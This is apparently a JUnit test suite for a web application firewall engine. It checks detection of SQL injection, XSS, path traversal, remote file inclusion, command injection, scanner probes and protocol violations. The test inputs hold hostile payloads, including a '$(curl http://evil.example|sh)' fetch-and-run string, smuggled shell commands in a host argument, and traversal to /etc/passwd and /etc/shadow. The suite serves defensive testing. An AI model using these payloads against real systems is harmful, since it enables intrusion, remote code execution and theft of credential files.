package dev.citadel.edge.waf;

import static dev.citadel.edge.waf.WafRequests.form;
import static dev.citadel.edge.waf.WafRequests.get;
import static dev.citadel.edge.waf.WafRequests.headers;
import static dev.citadel.edge.waf.WafRequests.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

class WafEngineTest {

    private final WafEngine engine = WafEngine.withDefaultRules(WafPolicy.defaults());

    private WafVerdict inspect(WafRequest r) {
        return engine.inspect(r);
    }

    @Test
    void blocksSqlInjectionInQueryJsonAndFormArguments() {
        assertThat(inspect(get("/api/1.0/catalogitem?id=1%27%20OR%20%271%27%3D%271")).action()).isEqualTo(WafVerdict.Action.BLOCK);
        assertThat(inspect(json("POST", "/api/1.0/catalogitem", "{\"name\":\"x' UNION SELECT password FROM users--\"}")).matches())
                .extracting(RuleMatch::category).contains("sqli");
        assertThat(inspect(form("/feedback", "msg=1%3BDROP+TABLE+items--")).allowed()).isFalse();
    }

    @Test
    void blocksSqlKeywordsSplitByInlineComments() {
        WafVerdict v = inspect(get("/api/1.0/catalogitem?q=1/**/UNION/**/SELECT/**/1,2"));
        assertThat(v.matchedRuleIds()).contains("942100");
    }

    @Test
    void blocksCrossSiteScriptingIncludingEntityAndFullWidthEvasions() {
        assertThat(inspect(get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")).matches()).extracting(RuleMatch::category).contains("xss");
        assertThat(inspect(json("POST", "/c", "{\"t\":\"&lt;script&gt;alert(1)&lt;/script&gt;\"}")).allowed()).isFalse();
        assertThat(inspect(json("POST", "/c", "{\"t\":\"＜script＞alert(1)＜/script＞\"}")).allowed()).isFalse();
        assertThat(inspect(get("/go?next=javascript:alert(document.cookie)")).allowed()).isFalse();
    }

    @Test
    void blocksPathTraversalInPathAndArgumentsInAnyEncoding() {
        assertThat(inspect(get("/images/..%2F..%2Fetc%2Fpasswd")).matches()).extracting(RuleMatch::category).contains("lfi");
        assertThat(inspect(get("/dl?f=..%5C..%5Cwindows%5Cwin.ini")).allowed()).isFalse();
        assertThat(inspect(get("/dl?f=%252e%252e%252f%252e%252e%252fetc%252fshadow")).allowed()).isFalse();
    }

    @Test
    void blocksRemoteFileInclusion() {
        WafVerdict v = inspect(get("/index?page=http://evil.example/shell.txt?"));
        assertThat(v.matches()).extracting(RuleMatch::category).contains("rfi");
        assertThat(inspect(get("/index?page=http://203.0.113.9/x")).allowed()).isFalse();
    }

    @Test
    void blocksCommandInjectionWithShellQuotingEvasions() {
        assertThat(inspect(get("/ping?host=127.0.0.1;cat%20/tmp/notes.txt")).matches()).extracting(RuleMatch::category).contains("cmdi");
        assertThat(inspect(get("/ping?host=x%3Bw'h'o'a'm'i")).allowed()).isFalse();
        assertThat(inspect(json("POST", "/c", "{\"n\":\"$(curl http://evil.example|sh)\"}")).allowed()).isFalse();
    }

    @Test
    void blocksScannerUserAgentsAndProbes() {
        assertThat(inspect(get("/", "User-Agent", "sqlmap/1.8")).matchedRuleIds()).contains("913100");
        assertThat(inspect(get("/.env")).allowed()).isFalse();
        assertThat(inspect(get("/wp-login.php")).allowed()).isFalse();
    }

    @Test
    void enforcesProtocolRules() {
        assertThat(inspect(WafRequest.of("TRACE", "/", headers(), "192.0.2.1")).matchedRuleIds()).contains("911100");
        assertThat(inspect(WafRequest.of("GET", "/", List.of(), "192.0.2.1")).matchedRuleIds()).contains("920280");
        assertThat(inspect(get("/x?q=%zz")).matchedRuleIds()).contains("920220");
        assertThat(inspect(get("/x?q=%ff")).matchedRuleIds()).contains("920250");
        assertThat(inspect(get("/x", "Content-Length", "3", "Transfer-Encoding", "chunked")).matchedRuleIds()).contains("920180");
        StringBuilder many = new StringBuilder("/x?");
        for (int i = 0; i < 300; i++) {
            many.append("a").append(i).append("=1&");
        }
        assertThat(inspect(get(many.toString())).matchedRuleIds()).contains("920300");
        assertThat(inspect(get("/x?q=" + "a".repeat(9000))).matchedRuleIds()).contains("920310");
    }

    @Test
    void passesRealisticJsonWithApostrophesQuotesUrlsAndNonAsciiText() {
        WafVerdict v = inspect(json("POST", "/api/1.0/catalogitem", """
                {"name":"Zoë's café — ½ price","description":"O'Brien said \\"best mug\\" -- 5/5; 北京 مرحبا",
                 "imageUrl":"https://images.example.com/a.png?w=640&h=480","price":12.50}"""));
        assertThat(v.allowed()).isTrue();
        assertThat(v.anomalyScore()).isZero();
        assertThat(v.referenceId()).isNull();
    }

    @Test
    void aSingleWarningStaysBelowTheDefaultThreshold() {
        WafVerdict v = inspect(get("/x?q=%u0041"));
        assertThat(v.matchedRuleIds()).containsExactly("920260");
        assertThat(v.anomalyScore()).isEqualTo(3);
        assertThat(v.allowed()).isTrue();
    }

    @Test
    void refusesBodiesLargerThanTheInspectionLimitAsTooLarge() {
        engine.updatePolicy(new WafPolicy(WafMode.PREVENTION, 5, 16, List.of()));
        WafVerdict v = inspect(json("POST", "/c", "{\"text\":\"seventeen bytes+\"}"));
        assertThat(v.action()).isEqualTo(WafVerdict.Action.TOO_LARGE);
        assertThat(v.referenceId()).isNotBlank();
    }

    @Test
    void detectionModeLetsBlockableRequestsPassButReportsThem() {
        engine.setMode(WafMode.DETECTION);
        WafVerdict v = inspect(get("/x?id=1%20UNION%20SELECT%201"));
        assertThat(v.allowed()).isTrue();
        assertThat(v.detectionOnly()).isTrue();
        assertThat(v.referenceId()).isNotBlank();
        assertThat(v.matchedRuleIds()).contains("942100");
    }

    @Test
    void modeSwitchAppliesToTheNextRequest() {
        WafRequest attack = get("/x?id=1%20UNION%20SELECT%201");
        assertThat(inspect(attack).allowed()).isFalse();
        engine.setMode(WafMode.DETECTION);
        assertThat(inspect(attack).allowed()).isTrue();
        engine.setMode(WafMode.PREVENTION);
        assertThat(inspect(attack).allowed()).isFalse();
    }

    @Test
    void exclusionEverywhereSwitchesARuleOff() {
        WafRequest probe = get("/wp-admin/");
        assertThat(inspect(probe).allowed()).isFalse();
        engine.updatePolicy(WafPolicy.defaults().withExclusions(List.of(RuleExclusion.everywhere("913120"))));
        assertThat(inspect(probe).allowed()).isTrue();
    }

    @Test
    void exclusionScopedToAPathPrefixAppliesOnlyUnderIt() {
        engine.updatePolicy(WafPolicy.defaults().withExclusions(List.of(new RuleExclusion("941110", "/cms/", null))));
        assertThat(inspect(get("/cms/page?html=%3Cscript%3Ex()%3C/script%3E")).matchedRuleIds()).doesNotContain("941110");
        assertThat(inspect(get("/shop/page?html=%3Cscript%3Ex()%3C/script%3E")).matchedRuleIds()).contains("941110");
    }

    @Test
    void exclusionScopedToAnArgumentSkipsOnlyThatArgument() {
        engine.updatePolicy(WafPolicy.defaults().withExclusions(List.of(new RuleExclusion("941110", null, "snippet"))));
        assertThat(inspect(get("/p?snippet=%3Cscript%3Ex()%3C/script%3E")).matchedRuleIds()).doesNotContain("941110");
        assertThat(inspect(get("/p?other=%3Cscript%3Ex()%3C/script%3E")).matchedRuleIds()).contains("941110");
    }

    @Test
    void inspectsJsonKeysAsArgumentNames() {
        assertThat(inspect(json("POST", "/c", "{\"<script>alert(1)</script>\":1}")).allowed()).isFalse();
    }

    @Test
    void flagsBodiesDeclaredJsonThatDoNotParse() {
        WafVerdict v = inspect(json("POST", "/c", "{\"a\":"));
        assertThat(v.matchedRuleIds()).containsExactly("920200");
        assertThat(v.allowed()).isTrue();
    }

    /**
     * Guards against catastrophic regex backtracking on attacker-sized values (8 KB repetitions that once took
     * tens of seconds). The budget is deliberately huge so a slow, loaded machine cannot fail it; only an
     * exponential or badly quadratic pattern can.
     */
    @Test
    void inspectsPathologicalRepetitionsWithoutCatastrophicBacktracking() {
        engine.setMode(WafMode.DETECTION);
        String[] motifs = {"\n", "<", "<a on", "${jndi", "'", "`", "/*!", "http://x?", "; cat ", "(select "};
        assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
            for (String motif : motifs) {
                String value = motif.repeat(8000 / motif.length() + 1).substring(0, 8000);
                String json = "{\"text\":\"" + value.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"}";
                byte[] body = json.getBytes(StandardCharsets.UTF_8);
                WafRequest r = new WafRequest("POST", "/c", headers("Content-Type", "application/json",
                        "Referer", value.replace("\n", " "), "Cookie", "c=" + value.replace("\n", " ").replace(";", "")),
                        "192.0.2.1", body, body.length);
                assertThat(inspect(r).anomalyScore()).as(motif).isGreaterThanOrEqualTo(0);
            }
        });
    }
}
